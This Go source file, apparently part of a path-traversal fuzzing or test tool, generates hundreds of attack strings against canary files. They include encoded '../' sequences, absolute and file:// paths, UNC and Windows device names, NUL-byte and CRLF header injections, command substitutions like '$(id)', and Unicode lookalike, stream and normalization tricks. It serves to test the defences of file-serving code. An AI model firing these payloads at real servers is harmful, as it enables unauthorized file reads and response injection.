package attack

import (
	"fmt"
	"path"
	"path/filepath"
	"strings"

	"golang.org/x/text/unicode/norm"
)

func (l Layout) baseName() string {
	if l.Base == "" {
		return ""
	}
	return path.Base(filepath.ToSlash(l.Base))
}

// names adds the attacks that are about the name itself.
func (b *builder) names() {
	for i, c := range b.layout.Outside() {
		b.absolute(c, i)
	}
	b.unc()
	b.drives()
	b.devices()
	b.tildes()
	b.nuls()
	b.newlines()
	b.controls()
	b.looks()
	b.badBytes()
	for i, c := range b.layout.Hidden() {
		b.hidden(c, fmt.Sprint(i))
		b.streams(c, fmt.Sprint(i))
		b.folded(c, fmt.Sprint(i))
		b.normalized(c, fmt.Sprint(i))
	}
}

// list adds several wires of one class, numbered behind the tag.
func (b *builder) list(class, tag string, wires ...string) {
	for i, w := range wires {
		b.add(class, id(tag, fmt.Sprint(i)), w)
	}
}

// nearest returns the name of the canary right above the base ("../canary.txt"), or one that is not there.
func (b *builder) nearest() string {
	for _, c := range b.layout.Outside() {
		if c.Up() == 1 {
			return c.Name
		}
	}
	return "../" + canaryName
}

func (b *builder) absolute(c Canary, i int) {
	abs := b.layout.Abs(c)
	if abs == "" {
		return
	}
	enc := strings.ReplaceAll(abs, "/", "%2f")
	tag := fmt.Sprint(i)
	b.list("absolute", tag,
		abs, enc, "%2F"+abs[1:], "/"+abs, "%2f"+abs, "./"+abs, "%2f%2f"+abs[1:], escapeAll(abs),
		strings.ReplaceAll(abs, "/", "%252f"), strings.ReplaceAll(abs, "/", `\`), strings.ReplaceAll(abs, "/", "%5c"),
		strings.ReplaceAll(abs, "/", "%c0%af"), strings.ReplaceAll(abs, "/", "%ef%bc%8f"),
		"/proc/self/root"+abs, "%2fproc%2fself%2froot"+enc, "/proc/self/cwd/"+c.Name,
		filepath.ToSlash(b.layout.Base)+"/"+c.Name,
		strings.Repeat("../", 40)+abs[1:], strings.Repeat("..%2f", 40)+enc[3:],
		"@fs"+abs, "@fs/"+abs, "%20"+abs, "%09"+abs, "%00"+abs)
	b.list("file-url", tag,
		"file://"+abs, "file:"+abs, "file://localhost"+abs, "FILE://"+abs, "file:%2f%2f"+enc, "file%3a//"+abs,
		"file:///"+abs, "file://127.0.0.1"+abs, "url:file://"+abs, "php://filter/resource="+abs,
		"jar:file://"+abs+"!/", "view-source:file://"+abs)
}

func (b *builder) unc() {
	b.list("unc", "",
		`\\host\share\canary.txt`, `%5c%5chost%5cshare%5ccanary.txt`, "/host/share/canary.txt", "//host/share/canary.txt",
		`\/host/share/canary.txt`, `/\host\share\canary.txt`, `\\?\UNC\host\share\canary.txt`, `//?/UNC/host/share/canary.txt`,
		`\\127.0.0.1\c$\canary.txt`, `\\host@80\davwww\canary.txt`, `\\host@SSL\share\canary.txt`, `\\[::1]\share\canary.txt`,
		"/evil.example", "/evil.example/", "/evil.example/%2e%2e", "/evil.example/..", `\evil.example`, `\\evil.example/`,
		"%5cevil.example", "%2fevil.example", "%2f%2fevil.example", "%09/evil.example", "/evil.example%2f..")
}

func (b *builder) drives() {
	b.list("drive", "",
		`C:\canary.txt`, "C:/canary.txt", "C:canary.txt", "c:", "C:%5ccanary.txt", "C%3a%5ccanary.txt", "C|/canary.txt",
		`.\c:`, "a/../c:/canary.txt", `sub\..\c:\canary.txt`, `\??\c:\canary.txt`, "%5c%3f%3f%5cc:%5ccanary.txt",
		`\\?\C:\canary.txt`, `//?/C:/canary.txt`, `\\.\C:\canary.txt`, `\\.\PhysicalDrive0`, `//./pipe/x`,
		`\\?\GLOBALROOT\Device\HarddiskVolume1\canary.txt`, `\\?\Volume{00000000-0000-0000-0000-000000000000}\canary.txt`,
		`\Device\Null`, "/C:/canary.txt", "%43:/canary.txt", "%43%3a/canary.txt", "c%00:/canary.txt", "sub/c:/canary.txt")
}

func (b *builder) devices() {
	devices := []string{
		"NUL", "CON", "PRN", "AUX", "COM1", "COM9", "LPT1", "LPT9", "COM0", "COM\u00b9", "LPT\u00b3", "CONIN$", "CONOUT$", "CLOCK$",
	}
	for _, d := range devices {
		low := strings.ToLower(d)
		b.list("device", low,
			d, low, d+".txt", d+".tar.gz", low+"%20.txt", d+"%20", d+".", d+":", d+":.txt", d+"%20%20.txt",
			"sub/"+d, low+"/x", low+"%20.txt/x", "sub/"+low+".d/ok.txt", `sub\`+d, d+"%00", d+"::$DATA")
	}
}

func (b *builder) tildes() {
	n := strings.TrimPrefix(b.nearest(), "../")
	b.list("tilde", "",
		"~", "~/", "~/"+n, "~root/"+n, "%7e/"+n, "%7eroot/"+n, "~+/"+n, "~-/"+n, "sub/~/"+n, "$HOME/"+n, "${HOME}/"+n,
		"%25HOME%25/"+n, "`id`", "$(id)", "~/../"+n)
}

func (b *builder) nuls() {
	up := b.nearest()
	wires := []string{
		up + "%00", up + "%00.txt", up + "%00.png", up + "%00%00.png", up + "%2500.png", up + "%c0%80.png", up + "\x00.png",
		up + "%u0000.png", up + "%00/", up + "%00/ok.txt", "%00" + up, "%00/" + up, "./%00/../" + up, b.layout.File + "%00",
		b.layout.File + "%00/../" + up, strings.ReplaceAll(up, "/", "%00/"), strings.ReplaceAll(up, "/", "%2f") + "%00.html",
	}
	for _, h := range b.layout.Hidden() {
		wires = append(wires, h.Name+"%00", h.Name+"%00.txt", h.Name+"%00.png", "%00"+h.Name, h.Name+"\x00.txt", h.Name+"%2500.txt")
	}
	b.list("nul", "", wires...)
}

func (b *builder) newlines() {
	up := b.nearest()
	wires := []string{
		b.layout.File + "%0a", b.layout.File + "%0d%0a", b.layout.File + "%0a/../" + up, b.layout.File + "%0a%2f..%2f" + up,
		"%0a" + up, "%0d%0a" + up, up + "%0a", "x%0a/../" + up, up + "%0aok.txt", "ok.txt%0d/../" + up, "x%e2%80%a8/../" + up,
		b.layout.File + "%0d%0aSet-Cookie:%20a=b", b.layout.File + "%0d%0a%0d%0a<h1>", b.layout.File + "\r\nX-Injected: 1",
		b.layout.File + "%0aX-Injected:%201", b.layout.File + "%c4%8d%c4%8aX-Injected:%201", b.layout.File + "%1b%5b31m",
	}
	for _, h := range b.layout.Hidden() {
		wires = append(wires, h.Name+"%0a", h.Name+"%0d", h.Name+"%0d%0a", h.Name+"%0a%0a", "%0a"+h.Name, h.Name+"\n", "%20"+h.Name)
	}
	b.list("newline", "", wires...)
}

// controls puts each control and some invisible characters within, behind and before the dots.
func (b *builder) controls() {
	rest := strings.TrimPrefix(b.nearest(), "../")
	var marks []string
	for c := 1; c < 0x20; c++ {
		marks = append(marks, string(rune(c)))
	}
	marks = append(marks, "\x7f", "\u0085", "\u00a0", "\u00ad", "\u200b", "\u200d", "\u202e", "\u2028", "\u2060", "\ufeff", "\ufffd")
	for i, m := range marks {
		e := escapeAll(m)
		b.list("traversal-control", fmt.Sprintf("mark%d", i), "."+e+"./"+rest, ".."+e+"/"+rest, e+"../"+rest, "."+m+"./"+rest, "../"+rest+e)
	}
}

// looks adds characters that look like, or are mapped to, a dot, a slash or a percent sign.
func (b *builder) looks() {
	rest := strings.TrimPrefix(b.nearest(), "../")
	for _, d := range []string{"\u3002", "\uff61", "\ufe52", "\u2024", "\u00b7", "\u06d4", "\u0701", "\ua4f8", "\u0660", "\u2e33"} {
		b.list("traversal-best-fit", fmt.Sprintf("dot-%04x", []rune(d)[0]),
			d+d+"/"+rest, escapeAll(d+d)+"/"+rest, "."+d+"/"+rest, d+d+"%2f"+rest)
	}
	for _, d := range []string{"\u2025", "\ufe30", "\u2026", "\ufe19"} {
		b.list("traversal-best-fit", fmt.Sprintf("dots-%04x", []rune(d)[0]), d+"/"+rest, escapeAll(d)+"/"+rest)
	}
	for _, s := range []string{"\u29f8", "\u29f9", "\u2571", "\ufe68", "\uff3c", "\u2216", "\u20e5", "\u00a5", "\u20a9", "\u0338", "\u1735"} {
		b.list("traversal-best-fit", fmt.Sprintf("slash-%04x", []rune(s)[0]), ".."+s+rest, ".."+escapeAll(s)+rest)
	}
	b.list("traversal-best-fit", "percent",
		"\uff052e\uff052e/"+rest, "..\uff052f"+rest, "%ef%bc%852e%ef%bc%852e/"+rest, "\ufe6a2e\ufe6a2e/"+rest, "\uff0e\uff0e\uff0f"+rest)
}

func (b *builder) badBytes() {
	up := b.nearest()
	rest := strings.TrimPrefix(up, "../")
	b.list("traversal-bad-percent", "alone",
		"%", "%%", "%2", "%zz", "%u", "%u00", "%u00zz", b.layout.File+"%", b.layout.File+"%2", b.layout.File+"%zz", "%-1", "%+1", "%0x",
		"%2%65", "%2e%2", "..%2/"+rest, "..%zz/"+rest, "..%%/"+rest, "%.%./"+rest, ".%%./"+rest, "%/"+up, "..%2g"+rest, "..%/%"+rest)
	b.list("traversal-bad-utf8", "alone",
		"%ff", "%c3", "%c3%28", "%80", "%bf", "%fe%fe", "%ed%a0%80", "%ed%bf%bf", "%f5%80%80%80", "%f4%90%80%80", "%e2%82",
		"ok%ff.txt", "\xff", "ok\xc3.txt", ".%c3./"+rest, ".\xff./"+rest, "..%ff/"+rest, "%ff../"+rest, "..%80%2f"+rest, ".%ed%a0%80./"+rest)
}

// hidden adds spellings of a refused name that a rule on other text may miss.
func (b *builder) hidden(c Canary, tag string) {
	n := c.Name
	dir := b.layout.Dir
	head, tail := n[:1], n[1:]
	b.list("hidden", tag,
		n, escapeAll(n), "%2e"+tail, "%2E"+tail, "%252e"+tail, "%25252e"+tail, "%%32%65"+tail, "%c0%ae"+tail, "%e0%80%ae"+tail,
		"%u002e"+tail, "\uff0e"+tail, "%ef%bc%8e"+tail, "./"+n, ".//"+n, "/"+n, "//"+n, "/./"+n, "%2f"+n, "%2e/"+n, "x/../"+n,
		dir+"/../"+n, dir+"/%2e%2e/"+n, dir+"/..%2f"+n, dir+"%2f..%2f"+n, dir+`\..\`+n, `.\`+n, "%5c"+n, `\`+n,
		n+"/", n+"//", n+"/.", n+"%2f", n+"/..", n+"/../"+n, n+";a=b", n+";", ";/"+n, "%00"+n, "%20"+n, "%09"+n,
		strings.ReplaceAll(n, "/", "//"), strings.ReplaceAll(n, "/", "/./"), strings.ReplaceAll(n, "/", "%2f"), strings.ReplaceAll(n, "/", `\`),
		head+"%00"+tail, head+"%01"+tail, head+"%ff"+tail, head+"%"+tail, n+"~", n+".bak", "css"+n, "static"+n, n+"%ff")
}

func (b *builder) streams(c Canary, tag string) {
	n := c.Name
	first, rest, _ := strings.Cut(n, "/")
	short := strings.ToUpper(strings.Trim(first, ".")) + "~1"
	if rest != "" {
		rest = "/" + rest
	}
	b.list("stream", tag,
		n+"::$DATA", n+"::$data", n+"%3a%3a$DATA", n+"%3a%3a%24DATA", n+":$DATA", n+"::$DATA.txt", n+":x", n+":x:$DATA",
		first+"::$INDEX_ALLOCATION"+rest, first+":$i30:$INDEX_ALLOCATION"+rest, short+rest, strings.ToLower(short)+rest,
		n+".", n+"..", n+"%20", n+"%20.", n+".%20", n+"%20%20", n+"...", n+"%2e", n+"+", first+"."+rest, first+"%20"+rest, first+"%20%20."+rest)
}

func (b *builder) folded(c Canary, tag string) {
	n := c.Name
	var mixed strings.Builder
	for i, r := range n {
		if i%2 == 0 {
			mixed.WriteString(strings.ToLower(string(r)))
			continue
		}
		mixed.WriteString(strings.ToUpper(string(r)))
	}
	up := strings.ToUpper(n)
	title := n[:1] + strings.ToUpper(n[1:2]) + n[2:]
	b.list("case-fold", tag, up, title, mixed.String(), escapeAll(up), "%2e"+up[1:], "./"+up, up+"/", strings.ToUpper(n[:2])+n[2:],
		n[:len(n)-1]+strings.ToUpper(n[len(n)-1:]))
}

func (b *builder) normalized(c Canary, tag string) {
	n := c.Name
	var wires []string
	for _, f := range []norm.Form{norm.NFD, norm.NFC, norm.NFKD, norm.NFKC} {
		if m := f.String(n); m != n {
			wires = append(wires, m, escapeAll(m), "./"+m)
		}
	}
	// HFS+ ignores these when it compares names.
	for _, r := range []string{"\u200c", "\u200d", "\u200e", "\u202a", "\u206f", "\ufeff"} {
		wires = append(wires, n[:1]+r+n[1:], n[:2]+r+n[2:], n+r, r+n, escapeAll(n[:2]+r+n[2:]))
	}
	b.list("normalization", tag, wires...)
}
